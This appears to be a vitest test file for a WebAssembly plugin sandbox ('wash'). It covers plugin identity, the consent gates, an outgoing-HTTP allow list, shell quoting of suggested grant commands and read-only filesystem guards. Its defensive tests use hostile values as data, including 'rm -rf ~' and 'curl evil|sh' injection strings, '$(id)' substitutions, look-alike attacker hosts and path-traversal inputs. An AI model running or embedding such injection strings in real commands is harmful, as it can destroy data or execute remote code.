// The sandbox's pure parts that test/sandbox-policy.test.ts and
// test/consent-policy.test.ts leave out: who a plugin is (identity.ts),
// wash's own directories (reserved.ts), access items, the worker's use gate,
// the outgoing-HTTP guard, the commands wash suggests to grant, recorded
// grants, and the descriptor wrappers (fs-gate.ts, readonly-fs.ts) and
// guest-path reading (fs-containment.ts) run on a plain class, not the shim.
import { describe, expect, it } from 'vitest';
import { identityOf, isLegacyGrantKey, isReservedId } from '../../src/sandbox/identity.js';
import { reservedPath, reservedReason } from '../../src/sandbox/reserved.js';
import { accessItems, describeItem, type AccessItem } from '../../src/sandbox/access-items.js';
import { UseGate, type AccessUse, type UseAnswer } from '../../src/sandbox/access-use.js';
import { guardOutgoingHandler } from '../../src/sandbox/outgoing-http.js';
import { destinationOf, formatHostPattern, hostMatches, parseHostPattern } from '../../src/sandbox/host-pattern.js';
import { allowFlags, grantsSummary, isOpenEnded } from '../../src/sandbox/decide.js';
import { grantCommand, grantOptions, patternSubsumes, shellQuote } from '../../src/sandbox/policy.js';
import { inheritsLegacy, recordedDenials, recordedFrom, recordedGrants, withoutEmpty, type GrantSubject } from '../../src/sandbox/grant-store.js';
import { emptyGrants, interpretConfig, type Grants, type WashConfig } from '../../src/sandbox/config.js';
import { createHostExec, createHostExecBackground } from '../../src/sandbox/host-exec.js';
import { GATE_DENIED, gateDescriptor, installGate } from '../../src/sandbox/fs-gate.js';
import { installFilesystemGuards, markReadOnly } from '../../src/sandbox/readonly-fs.js';
import { segmentsOf } from '../../src/sandbox/fs-containment.js';
import { timeoutProblem } from '../../src/sandbox/limits.js';

const g = (over: Partial<Grants> = {}): Grants => ({ ...emptyGrants(), ...over });

describe('identity: the catalog entry, never what the component declares', () => {
  it('each source has its own key space and directory prefix', () => {
    expect(identityOf({ source: 'embedded', file: '/pkg/plugins/keys/dist/keys.wasm' })).toEqual({
      kind: 'core',
      key: 'core:keys',
      dirName: 'core.keys',
      remembers: true,
    });
    expect(identityOf({ source: 'installed', file: '/d/plugins/keys.wasm' })).toEqual({
      kind: 'installed',
      key: 'installed:keys',
      dirName: 'installed.keys',
      remembers: true,
    });
    const path = identityOf({ source: 'path', file: '/opt/p/keys.wasm' });
    expect(path).toMatchObject({ kind: 'path', key: 'path:/opt/p/keys.wasm', remembers: true });
    expect(path.dirName).toMatch(/^path\.keys\.[0-9a-f]{12}$/);
    expect(identityOf({ source: 'test', file: '/opt/p/keys.wasm' })).toMatchObject({ kind: 'test', key: 'test:/opt/p/keys.wasm', remembers: false });
  });

  it('a directory name is always one safe path component', () => {
    for (const file of ['/x/...wasm', '/x/.wasm', '/x/..', '/x/a b\u001b[2J.wasm', `/x/${'ü'.repeat(100)}.WASM`, '/x/.hidden.wasm', '/x/a\nb.wasm']) {
      for (const source of ['embedded', 'installed', 'path', 'test'] as const) {
        const { dirName } = identityOf({ source, file });
        expect(dirName, `${source} ${file}`).toMatch(/^[A-Za-z0-9._-]+$/);
        expect(dirName).not.toMatch(/^\.|\/|^\.\.?$/);
        expect(dirName.length).toBeLessThanOrEqual(80);
      }
    }
  });

  it('the same file name in two places on WASH_PLUGIN_PATH is two identities', () => {
    const a = identityOf({ source: 'path', file: '/a/tool.wasm' });
    const b = identityOf({ source: 'path', file: '/b/tool.wasm' });
    expect(a.key).not.toBe(b.key);
    expect(a.dirName).not.toBe(b.dirName);
  });

  it('two installed plugins whose (valid, up to 64-character) names share a long prefix are two identities', () => {
    // Installed files are named by the plugin's name; one that starts like another must not get its scratch dir.
    const victim = identityOf({ source: 'installed', file: `/d/plugins/${'company-internal-deployment-credentials-manager'}-prod.wasm` });
    const impostor = identityOf({ source: 'installed', file: `/d/plugins/${'company-internal-deployment-credentials-manager'}-evil.wasm` });
    expect(impostor.key).not.toBe(victim.key);
    expect(impostor.dirName).not.toBe(victim.dirName);
    const longest = identityOf({ source: 'installed', file: `/d/plugins/${'a'.repeat(64)}.wasm` });
    expect(longest.key).toBe(`installed:${'a'.repeat(64)}`);
  });

  it('reserved ids and legacy keys', () => {
    expect(isReservedId('dev.wash.keys')).toBe(true);
    expect(isReservedId('dev.washer.keys')).toBe(false);
    expect(isReservedId('xdev.wash.keys')).toBe(false);
    expect(isLegacyGrantKey('dev.example.tool')).toBe(true);
    expect(isLegacyGrantKey('installed:tool')).toBe(false);
  });
});

describe("wash's own directories", () => {
  const dirs = { cache: '/home/u/.cache/wash', data: '/home/u/.local/share/wash', config: '/home/u/.config/wash' };
  const pkg = '/usr/lib/node_modules/wash-ts';

  it('inside, the same, or holding one: each is found; a sibling with a common prefix is not', () => {
    expect(reservedPath('/home/u/.cache/wash/transpiled/x', dirs, pkg)).toMatchObject({ relation: 'inside', dir: { what: "wash's own cache directory" } });
    expect(reservedPath('/home/u/.cache/wash/', dirs, pkg)).toMatchObject({ relation: 'inside' });
    expect(reservedPath('/home/u', dirs, pkg)).toMatchObject({ relation: 'contains', dir: { what: "wash's own config directory" } });
    expect(reservedPath('/', dirs, pkg)).toMatchObject({ relation: 'contains' });
    expect(reservedPath('/usr/lib/node_modules/wash-ts/plugins/keys', dirs, pkg)).toMatchObject({
      relation: 'inside',
      dir: { what: "wash's installation (core plugins' code)" },
    });
    expect(reservedPath('/home/u/.cache/washer', dirs, pkg)).toBeUndefined();
    expect(reservedPath('/home/u/.cache/wash-other', dirs, pkg)).toBeUndefined();
    expect(reservedPath('/home/u/.cache/wash/../other', dirs, pkg)).toBeUndefined(); // normalised: /home/u/.cache/other
    expect(reservedPath('/home/u/projects', dirs, pkg)).toBeUndefined();
  });

  it('the reason says what it is, and where a path led', () => {
    const at = (p: string) => reservedPath(p, dirs, pkg)!;
    expect(reservedReason('/home/u/.cache/wash', at('/home/u/.cache/wash'))).toBe("it is wash's own cache directory");
    expect(reservedReason('/home/u/.cache/wash/x', at('/home/u/.cache/wash/x'))).toBe("it is inside wash's own cache directory");
    expect(reservedReason('/home/u/link', at('/home/u/.config/wash/wash.toml'))).toBe(
      "it is inside wash's own config directory (it leads to /home/u/.config/wash/wash.toml)",
    );
    expect(reservedReason('/home/u', at('/home/u'))).toBe("it contains wash's own config directory /home/u/.config/wash");
  });
});

describe('access items', () => {
  const dirs = { cache: '/c', data: '/d', config: '/cfg' };
  it('every kind; a relative path or an unknown placeholder is reported, not guessed', () => {
    const { items, invalid } = accessItems(
      {
        access: {
          env: [{ name: 'TOKEN', reason: 'r' }],
          scratchDir: 's',
          paths: [
            { path: '{cache}/x', access: 'read-only', reason: 'r' },
            { path: '/srv/../etc', access: 'read-write', reason: 'r' },
            { path: 'relative', access: 'read-only', reason: 'r' },
            { path: '{home}/x', access: 'read-only', reason: 'r' },
            { path: '', access: 'read-only', reason: 'r' },
          ],
          outgoingHttp: [{ host: 'https://x', reason: 'r' }],
          hostExec: [{ binary: 'git', reason: 'r' }],
          incomingHttp: 'l',
        },
      } as never,
      dirs,
    );
    expect(items).toEqual([
      { kind: 'scratch', reason: 's' },
      { kind: 'env', name: 'TOKEN', reason: 'r' },
      { kind: 'read', path: '/c/x', requested: '{cache}/x', reason: 'r' },
      { kind: 'write', path: '/etc', requested: '/srv/../etc', reason: 'r' },
      { kind: 'net', host: 'https://x', reason: 'r' },
      { kind: 'exec', binary: 'git', reason: 'r' },
      { kind: 'listen', reason: 'l' },
    ]);
    expect(invalid).toEqual([
      "path 'relative' is neither absolute nor {cache}/{data}/{config}/~",
      "path '{home}/x' is neither absolute nor {cache}/{data}/{config}/~",
      "path '' is neither absolute nor {cache}/{data}/{config}/~",
    ]);
  });

  it('described as the prompt says it, with where a path really leads', () => {
    expect(describeItem({ kind: 'read', path: '/a', requested: '/a', reason: '', real: '/b' })).toBe('read /a (leads to /b)');
    expect(describeItem({ kind: 'write', path: '/a', requested: '/a', reason: '', real: '/a' })).toBe('read and write /a');
    expect(describeItem({ kind: 'env', name: 'X', reason: '' })).toBe('environment variable X');
    expect(describeItem({ kind: 'exec', binary: 'git', reason: '' })).toBe('run host program git');
  });
});

describe('the use gate: each thing asked about once per run (a program: per call)', () => {
  const gate = (answer: (use: AccessUse) => UseAnswer) => {
    const asked: AccessUse[] = [];
    return { asked, gate: new UseGate((use) => (asked.push(use), answer(use))) };
  };

  it('paths, hosts (scheme and authority in any case) and env: asked once, the answer kept, yes or no', () => {
    const { asked, gate: u } = gate((use) => ({ allowed: use.kind === 'path' ? use.mount === '/ok' : use.kind === 'net', env: { A: '1' } }));
    expect([u.path('/ok'), u.path('/ok'), u.path('/no'), u.path('/no')]).toEqual([true, true, false, false]);
    expect([u.net('HTTPS', 'Api.Example.com'), u.net('https', 'api.example.com')]).toEqual([true, true]);
    expect(u.env()).toEqual({ A: '1' });
    expect(u.env()).toEqual({ A: '1' });
    expect(asked).toEqual([
      { kind: 'path', mount: '/ok' },
      { kind: 'path', mount: '/no' },
      { kind: 'net', scheme: 'HTTPS', authority: 'Api.Example.com' },
      { kind: 'env' },
    ]);
  });

  it('an env answer without variables is none; a program is asked each call; a refused listen stays refused', () => {
    const { asked, gate: u } = gate(() => ({ allowed: false, reason: 'answered' }));
    expect(u.env()).toEqual({});
    expect(u.exec('git', ['a'], false)).toEqual({ allowed: false, reason: 'answered' });
    expect(u.exec('git', ['a'], false).allowed).toBe(false);
    expect(u.listen(0).allowed).toBe(false);
    expect(u.listen(8080).allowed).toBe(false);
    expect(asked.filter((a) => a.kind === 'exec')).toHaveLength(2);
    expect(asked.filter((a) => a.kind === 'listen')).toHaveLength(1);
  });
});

describe('outgoing HTTP: only granted patterns, or what the consent session allows', () => {
  type Request = { scheme(): { tag: 'HTTP' | 'HTTPS' | 'other'; val?: string } | undefined; authority(): string | undefined };
  const request = (scheme: string | undefined, authority: string | undefined): Request => ({
    scheme: () => (scheme === undefined ? undefined : scheme === 'HTTP' || scheme === 'HTTPS' ? { tag: scheme } : { tag: 'other', val: scheme }),
    authority: () => authority,
  });
  const setup = (allowed: string[], ask?: (scheme: string, authority: string) => boolean) => {
    const sent: Request[] = [];
    const denied: string[] = [];
    const guarded = guardOutgoingHandler({ handle: (r) => (sent.push(r), 'response') }, allowed, (d) => denied.push(d), ask);
    const send = (scheme: Parameters<typeof request>[0], authority: string | undefined) => {
      try {
        return guarded.handle(request(scheme, authority));
      } catch (err) {
        return err;
      }
    };
    return { sent, denied, send };
  };

  it('a granted authority goes out; a look-alike, another port or scheme does not', () => {
    const { sent, denied, send } = setup(['https://api.example.com', 'not a pattern']);
    expect(send('HTTPS', 'api.example.com')).toBe('response');
    expect(send(undefined, 'api.example.com:443')).toBe('response'); // no scheme: https
    expect(send('HTTPS', 'API.EXAMPLE.COM.')).toBe('response');
    for (const [scheme, authority] of [
      ['HTTP', 'api.example.com'],
      ['HTTPS', 'api.example.com:8443'],
      ['HTTPS', 'api.example.com.evil.net'],
      ['HTTPS', 'evil.net#@api.example.com'],
      ['HTTPS', 'user@api.example.com'],
      ['HTTPS', 'api.example.com\u0000.evil'],
      ['HTTPS', ''],
      ['HTTPS', undefined],
      ['ftp', 'api.example.com'],
    ] as const) {
      expect(send(scheme, authority), `${scheme} ${authority}`).toEqual({ tag: 'HTTP-request-denied' });
    }
    expect(sent).toHaveLength(3);
    expect(denied).toContain('https://api.example.com:8443');
    expect(denied).toContain('ftp://api.example.com');
  });

  it('outside the grants, the consent session is asked only for a real destination', () => {
    const asked: string[] = [];
    const { send } = setup([], (scheme, authority) => (asked.push(`${scheme}://${authority}`), authority === 'ok.example'));
    expect(send('HTTPS', 'ok.example')).toBe('response');
    expect(send('HTTPS', 'no.example')).toEqual({ tag: 'HTTP-request-denied' });
    expect(send('HTTPS', 'a b')).toEqual({ tag: 'HTTP-request-denied' });
    expect(send('gopher', 'x')).toEqual({ tag: 'HTTP-request-denied' }); // no default port: no destination
    expect(asked).toEqual(['https://ok.example', 'https://no.example']);
  });

  it('host patterns: formatted back as parsed; default ports explicit or not mean the same to hostMatches', () => {
    for (const text of ['https://api.example.com', 'http://127.0.0.1:8080', '*://*.example.com:*', 'https://[::1]:8443', 'https://*']) {
      expect(formatHostPattern(parseHostPattern(text))).toBe(text);
    }
    expect(formatHostPattern(parseHostPattern(' HTTPS://API.Example.COM/ '))).toBe('https://api.example.com');
    expect(hostMatches(parseHostPattern('https://x.com:443'), destinationOf('https', 'x.com')!)).toBe(true);
    expect(destinationOf('https', 'x.com:0')).toEqual({ scheme: 'https', host: 'x.com', port: 0 });
    expect(hostMatches(parseHostPattern('https://*'), destinationOf('https', 'x.com:0')!)).toBe(false);
    expect(() => parseHostPattern('https://x.com:0')).toThrow("'https://x.com:0' has an invalid port");
  });

  it('a grant written with the default port covers a request written without it, and the reverse', () => {
    // hostMatches treats them alike; patternSubsumes (grants vs declarations) should too.
    expect(patternSubsumes(parseHostPattern('https://x.com'), parseHostPattern('https://x.com:443'))).toBe(true);
    expect(patternSubsumes(parseHostPattern('https://x.com:443'), parseHostPattern('https://x.com'))).toBe(true);
    expect(patternSubsumes(parseHostPattern('http://x.com:80'), parseHostPattern('http://x.com'))).toBe(true);
    expect(patternSubsumes(parseHostPattern('https://x.com'), parseHostPattern('https://x.com:8443'))).toBe(false);
    expect(patternSubsumes(parseHostPattern('http://x.com'), parseHostPattern('https://x.com:80'))).toBe(false);
  });
});

describe('the commands wash suggests: safe to paste into a shell', () => {
  const read = (path: string): AccessItem => ({ kind: 'read', path, requested: path, reason: '' });
  const hostile = ['/tmp/$(touch pwned)', '/tmp/`id`', '/tmp/a;rm -rf ~', '/tmp/a b', "/tmp/it's", '/tmp/a|b', '/tmp/a&b', '/tmp/$HOME', '/tmp/a>b'];

  it('shellQuote leaves plain words alone and single-quotes the rest, quotes included', () => {
    expect(shellQuote('git')).toBe('git');
    expect(shellQuote('/home/me/x-1_2.txt')).toBe('/home/me/x-1_2.txt');
    expect(shellQuote('https://api.example.com:8443')).toBe('https://api.example.com:8443');
    expect(shellQuote('')).toBe("''");
    expect(shellQuote("a'b")).toBe("'a'\\''b'");
    for (const s of hostile) expect(shellQuote(s)).toMatch(/^'.*'$/s);
  });

  it('shellQuote quotes what a shell would expand: globs and braces (zsh and fish refuse a glob that matches nothing)', () => {
    expect(shellQuote('https://*.example.com')).toBe("'https://*.example.com'");
    expect(shellQuote('/srv/{a,b}')).toBe("'/srv/{a,b}'");
    expect(shellQuote('/srv/file?')).toBe("'/srv/file?'");
    expect(shellQuote('/srv/[ab]')).toBe("'/srv/[ab]'");
    expect(shellQuote('~/x')).toBe("'~/x'");
  });

  it('grant options quote every value the plugin chose', () => {
    expect(grantOptions([read('/tmp/$(id)'), { kind: 'exec', binary: 'a;b', reason: '' }, { kind: 'scratch', reason: '' }])).toBe(
      "--read '/tmp/$(id)' --exec 'a;b' --scratch",
    );
    expect(grantCommand('p', [{ kind: 'net', host: 'https://x.com', reason: '' }])).toBe('wash plugin grant p --net https://x.com');
  });

  it('the one-run flags quote them too: a declared path cannot become a command the user pastes', () => {
    for (const path of hostile) {
      const flags = allowFlags([read(path)]);
      // The whole flag is one single-quoted shell word.
      expect(flags, path).toMatch(/^'--allow-read=.*'$/s);
      expect(flags).toBe(shellQuote(`--allow-read=${path}`));
    }
    expect(allowFlags([{ kind: 'exec', binary: 'git;curl evil|sh', reason: '' }])).toBe("'--allow-run=git;curl evil|sh'");
    expect(allowFlags([{ kind: 'net', host: 'https://x.com$(id)', reason: '' }])).toBe("'--allow-net=https://x.com$(id)'");
    // Plain values stay readable.
    expect(
      allowFlags([
        { kind: 'env', name: 'A', reason: '' },
        { kind: 'env', name: 'B', reason: '' },
        read('/srv'),
        { kind: 'scratch', reason: '' },
        { kind: 'listen', reason: '' },
      ]),
    ).toBe('--allow-env=A,B --allow-read=/srv --allow-scratch --allow-listen');
    expect(allowFlags([])).toBe('');
  });

  it('summaries and open-ended hosts', () => {
    expect(grantsSummary(g({ scratch: true, env: ['A', 'B'], net: ['https://x'], digest: 'sha256:1', source: 's' }))).toBe('scratch; env A, B; net https://x');
    expect(grantsSummary(g())).toBe('');
    expect(isOpenEnded({ kind: 'net', host: '*://*:*', reason: '' })).toBe(true);
    expect(isOpenEnded({ kind: 'net', host: 'https://*', reason: '' })).toBe(true);
    expect(isOpenEnded({ kind: 'net', host: 'https://*.x.com', reason: '' })).toBe(false);
    expect(isOpenEnded({ kind: 'net', host: 'garbage', reason: '' })).toBe(false);
    expect(isOpenEnded({ kind: 'env', name: 'X', reason: '' })).toBe(false);
  });
});

describe('recorded grants: bound to the identity and the component', () => {
  const subject = (kind: 'core' | 'installed' | 'path' | 'test', digest = 'sha256:new'): GrantSubject => ({
    identity: { kind, key: `${kind}:p`, dirName: `${kind}.p`, remembers: kind !== 'test' },
    digest,
    source: 'somewhere',
  });
  const config = (grants: WashConfig['grants'], denials: WashConfig['denials'] = {}): WashConfig => ({ ...interpretConfig({}).config, grants, denials });

  it('apply to the component they were given to; a core plugin keeps them across wash upgrades', () => {
    const table = { 'installed:p': g({ env: ['A'], digest: 'sha256:old', source: 'oci://r/p:1' }), 'core:p': g({ scratch: true, digest: 'sha256:old' }) };
    expect(recordedGrants(config(table), subject('installed', 'sha256:old')).grants.env).toEqual(['A']);
    expect(recordedGrants(config(table), subject('installed'))).toEqual({
      grants: emptyGrants(),
      changed: { digest: 'sha256:old', source: 'oci://r/p:1', grants: table['installed:p'] },
    });
    expect(recordedGrants(config(table), subject('core')).grants.scratch).toBe(true);
  });

  it('a plugin under test never has any; an empty table is none, not a change', () => {
    const table = { 'test:p': g({ env: ['A'], digest: 'sha256:new' }), 'installed:p': g({ digest: 'sha256:old' }) };
    expect(recordedGrants(config(table), subject('test'))).toEqual({ grants: emptyGrants() });
    expect(recordedGrants(config(table), subject('installed'))).toEqual({ grants: emptyGrants() });
    expect(recordedDenials(config({}, { 'test:p': g({ env: ['A'] }) }), subject('test'))).toEqual(emptyGrants());
    expect(recordedDenials(config({}, { 'path:p': g({ env: ['A'] }) }), subject('path')).env).toEqual(['A']);
  });

  it('legacy grants (under a declared id) pass only to their rightful heir', () => {
    expect(inheritsLegacy(subject('core'), 'dev.wash.keys', undefined)).toBe(true);
    expect(inheritsLegacy(subject('core'), 'dev.other.keys', undefined)).toBe(false);
    expect(inheritsLegacy(subject('installed'), 'dev.wash.keys', 'sha256:new')).toBe(false); // nobody else may claim wash's ids
    expect(inheritsLegacy(subject('installed'), 'dev.x.p', 'sha256:new')).toBe(true);
    expect(inheritsLegacy(subject('installed'), 'dev.x.p', 'sha256:old')).toBe(false);
    expect(inheritsLegacy(subject('installed'), 'dev.x.p', undefined)).toBe(false);
    expect(inheritsLegacy(subject('path'), 'dev.x.p', 'sha256:new')).toBe(false);
  });

  it('a raw table reads as grants; empty entries and the binding are left out when written', () => {
    expect(recordedFrom({ env: ['A'], scratch: true, listen: 'yes', read: 'x', digest: 'd' })).toEqual(g({ env: ['A'], scratch: true }));
    expect(withoutEmpty(g({ env: ['A'], digest: 'd', source: 's' }))).toEqual({ env: ['A'] });
  });
});

describe('host programs: a denied call never runs', () => {
  const denying = (reason: UseAnswer['reason']) => ({ pluginName: 'p', timeoutMs: 1000, allow: () => ({ allowed: false, reason }) });
  it('the refusal says whether the user said no or nothing granted it', () => {
    const run = createHostExec(denying('answered'));
    expect(() => run('definitely-not-run', [])).toThrow("host-exec of 'definitely-not-run' denied by the user");
    expect(() => createHostExec(denying('recorded'))('x', [])).toThrow("host-exec of 'x' denied by the user");
    expect(() => createHostExec(denying('undeclared'))('git', [])).toThrow(
      "host-exec of 'git' denied: not granted (declare it in access.host-exec; grant with --allow-run=git)",
    );
    expect(() => createHostExecBackground({ ...denying('no-terminal'), grantHint: (b) => `wash plugin grant p --exec ${b}` })('git', [])).toThrow(
      "host-exec of 'git' denied: not granted (wash plugin grant p --exec git)",
    );
  });

  it('the consent session is asked with the exact command line and whether it runs in the background', () => {
    const asked: unknown[] = [];
    const allow = (binary: string, args: string[], background: boolean) => (
      asked.push([binary, args, background]),
      { allowed: false, reason: 'answered' as const }
    );
    expect(() => createHostExec({ pluginName: 'p', timeoutMs: 1, allow })('git', ['log', '--format=%H', '$(x)'])).toThrow();
    expect(() => createHostExecBackground({ pluginName: 'p', timeoutMs: 1, allow })('sleep', ['9'])).toThrow();
    expect(asked).toEqual([
      ['git', ['log', '--format=%H', '$(x)'], false],
      ['sleep', ['9'], true],
    ]);
  });
});

describe('descriptor wrappers, on a plain Descriptor class', () => {
  /** A stand-in for preview2-shim's Descriptor: records the calls that reach it. */
  const descriptorClass = () => {
    const calls: string[] = [];
    class Descriptor {
      constructor(readonly name: string) {}
      openAt(_pathFlags: unknown, path: string, _openFlags?: unknown, _descriptorFlags?: unknown) {
        calls.push(`${this.name}.openAt ${path}`);
        return new Descriptor(`${this.name}/${path}`);
      }
      read() {
        calls.push(`${this.name}.read`);
        return 'data';
      }
      write() {
        calls.push(`${this.name}.write`);
      }
      setSize() {
        calls.push(`${this.name}.setSize`);
      }
      renameAt(_old: string, target: Descriptor, _new: string) {
        calls.push(`${this.name}.renameAt -> ${target.name}`);
      }
      linkAt(_flags: unknown, _old: string, target: Descriptor, _new: string) {
        calls.push(`${this.name}.linkAt -> ${target.name}`);
      }
      readDirectory(): never {
        throw Object.assign(new Error('EISDIR: illegal operation'), { code: 'EISDIR' });
      }
      getType() {
        calls.push(`${this.name}.getType`);
        return 'directory';
      }
      isSameObject(other: Descriptor) {
        return other === this;
      }
    }
    return { Descriptor, calls };
  };

  it('a gated preopen asks its gate before anything reaches the shim; what is opened through it stays behind the gate', () => {
    const { Descriptor, calls } = descriptorClass();
    installGate(Descriptor as never);
    installGate(Descriptor as never); // once only: not wrapped twice
    const open = new Descriptor('open');
    const gated = new Descriptor('gated');
    let answer = false;
    let asked = 0;
    gateDescriptor(gated, () => (asked++, answer));
    expect(() => gated.read()).toThrow(GATE_DENIED);
    expect(() => gated.openAt({}, 'x')).toThrow(GATE_DENIED);
    expect(gated.getType()).toBe('directory'); // touches no file: the preview1 adapter asks it of every preopen
    expect(() => open.renameAt('a', gated, 'b')).toThrow(GATE_DENIED); // the gated side of a rename
    expect(() => open.linkAt({}, 'a', gated, 'b')).toThrow(GATE_DENIED);
    expect(open.read()).toBe('data');
    expect(calls).toEqual(['gated.getType', 'open.read']);
    answer = true;
    const child = gated.openAt({}, 'sub');
    answer = false;
    expect(() => child.read()).toThrow(GATE_DENIED);
    expect(asked).toBeGreaterThanOrEqual(6);
  });

  it('read-only: every write-like call and every writing open is refused, also on what is opened through it', () => {
    const { Descriptor, calls } = descriptorClass();
    installFilesystemGuards(Descriptor as never);
    const ro = new Descriptor('ro');
    const rw = new Descriptor('rw');
    markReadOnly(ro);
    expect(() => ro.write()).toThrow('read-only');
    expect(() => ro.setSize()).toThrow('read-only');
    expect(() => rw.renameAt('a', ro, 'b')).toThrow('read-only'); // a rename into it
    expect(() => ro.renameAt('a', rw, 'b')).toThrow('read-only'); // or out of it
    expect(() => rw.linkAt({}, 'a', ro, 'b')).toThrow('read-only');
    for (const [openFlags, descriptorFlags] of [
      [{ create: true }, {}],
      [{ truncate: true }, {}],
      [{ exclusive: true }, {}],
      [{}, { write: true }],
      [{}, { mutateDirectory: true }],
    ]) {
      expect(() => ro.openAt({}, 'f', openFlags, descriptorFlags), JSON.stringify([openFlags, descriptorFlags])).toThrow('read-only');
    }
    const child = ro.openAt({}, 'f', {}, { read: true });
    expect(() => child.write()).toThrow('read-only');
    rw.write();
    expect(rw.openAt({}, 'f', { create: true }, { write: true }).name).toBe('rw/f');
    expect(calls).toEqual(['ro.openAt f', 'rw.write', 'rw.openAt f']);
  });

  it('a host error escaping a read becomes a WASI error code, not a crash', () => {
    const { Descriptor } = descriptorClass();
    installFilesystemGuards(Descriptor as never);
    expect(() => new Descriptor('d').readDirectory()).toThrow('is-directory');
  });
});

describe('guest paths as containment reads them', () => {
  const table: [unknown, { segments: string[]; name: string; parent: string[] }][] = [
    ['a/b/c', { segments: ['a', 'b', 'c'], name: 'c', parent: ['a', 'b'] }],
    ['./a//b/./', { segments: ['a', 'b'], name: 'b/', parent: ['a'] }],
    ['a/../b', { segments: ['b'], name: 'b', parent: [] }],
    ['a\\b', { segments: ['a', 'b'], name: 'b', parent: ['a'] }],
    ['.', { segments: [], name: '', parent: [] }],
    ['', { segments: [], name: '', parent: [] }],
    ['a/..', { segments: [], name: '', parent: [] }],
    ['..a/b..', { segments: ['..a', 'b..'], name: 'b..', parent: ['..a'] }],
  ];
  it.each(table)('%j', (path, expected) => {
    expect(segmentsOf(path)).toEqual(expected);
  });

  it.each(['/etc/passwd', '..', '../x', 'a/../../x', '\\etc', 'a\\..\\..\\x', '//x'])('%j never climbs above its descriptor', (path) => {
    expect(() => segmentsOf(path)).toThrow('not-permitted');
  });
});

describe('timeouts', () => {
  it('from 1 s to 24 h; anything else says why', () => {
    expect(timeoutProblem(1)).toBeUndefined();
    expect(timeoutProblem(86_400)).toBeUndefined();
    expect(timeoutProblem(0.5)).toBe('must be from 1 to 86400 seconds (24 h)');
    expect(timeoutProblem(86_401)).toBe('must be from 1 to 86400 seconds (24 h)');
    expect(timeoutProblem(NaN)).toBe('needs a number of seconds');
    expect(timeoutProblem(Infinity)).toBe('needs a number of seconds');
  });
});
